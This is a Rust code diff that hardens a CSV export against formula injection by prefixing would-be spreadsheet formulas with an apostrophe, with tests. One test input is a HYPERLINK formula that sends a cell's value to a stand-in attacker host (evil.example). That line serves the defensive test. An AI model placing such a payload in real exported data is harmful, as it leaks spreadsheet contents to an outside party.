@@ -195,20 +195,43 @@ pub fn summary(group: UsageGroup, s: &UsageSummary) -> Value {
 }
 
 /// One CSV line (RFC 4180), without its line break: a field with a comma, quote or line break
-/// is quoted, its quotes doubled. A field that a spreadsheet would run as a formula (`=`, `+`,
-/// `-`, `@` first) is left as it is: every such field here is a number or an id.
+/// is quoted, its quotes doubled. A text field that a spreadsheet would run as a formula — one
+/// that starts with `=`, `+`, `-`, `@`, a tab or a carriage return — gets a `'` in front (OWASP's
+/// CSV injection advice), so that it shows as the text it is; a number (`-0.5`, `12`) stays a
+/// number (`docs/decisions.md`, "The usage log").
 pub fn csv_line(cells: &[String]) -> String {
     cells
         .iter()
         .map(|c| {
+            let c = neutralised(c);
             if c.contains([',', '"', '\n', '\r']) {
                 format!("\"{}\"", c.replace('"', "\"\""))
             } else {
-                c.clone()
+                c.into_owned()
             }
         })
         .collect::<Vec<_>>()
         .join(",")
+}
+
+/// `cell` as a spreadsheet may open it: a would-be formula prefixed with `'`.
+fn neutralised(cell: &str) -> std::borrow::Cow<'_, str> {
+    let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    if formula && !is_number(cell) {
+        std::borrow::Cow::Owned(format!("'{cell}"))
+    } else {
+        std::borrow::Cow::Borrowed(cell)
+    }
+}
+
+/// A plain decimal number, signed: `-0.5`, `+12`, `3`.
+fn is_number(cell: &str) -> bool {
+    let digits = cell.strip_prefix(['-', '+']).unwrap_or(cell);
+    let (whole, fraction) = digits.split_once('.').unwrap_or((digits, "0"));
+    !whole.is_empty()
+        && !fraction.is_empty()
+        && whole.bytes().all(|b| b.is_ascii_digit())
+        && fraction.bytes().all(|b| b.is_ascii_digit())
 }
 
 #[cfg(test)]
@@ -219,5 +242,27 @@ mod tests {
     fn csv_quotes_what_needs_quoting() {
         let cells = vec!["a".to_owned(), "b,c".to_owned(), "say \"hi\"".to_owned()];
         assert_eq!(csv_line(&cells), "a,\"b,c\",\"say \"\"hi\"\"\"");
+    }
+
+    /// Issue 22 item 3: a client-chosen text that a spreadsheet would run is shown as text;
+    /// numbers stay numbers.
+    #[test]
+    fn formulas_are_neutralised_and_numbers_are_not() {
+        let cell = |c: &str| csv_line(&[c.to_owned()]);
+        assert_eq!(
+            cell(r#"=HYPERLINK("https://evil.example/?k="&C2,"open")"#),
+            r#""'=HYPERLINK(""https://evil.example/?k=""&C2,""open"")""#
+        );
+        for formula in ["+1+2", "-cmd", "@SUM(A1)", "\tx", "\rx"] {
+            assert!(
+                cell(formula).trim_start_matches('"').starts_with('\''),
+                "{formula:?}"
+            );
+        }
+        for number in ["-0.5", "12", "+3", "0.000000001", "-12"] {
+            assert_eq!(cell(number), number);
+        }
+        assert_eq!(cell("-1-2"), "'-1-2");
+        assert_eq!(cell("req_abc"), "req_abc");
     }
 }
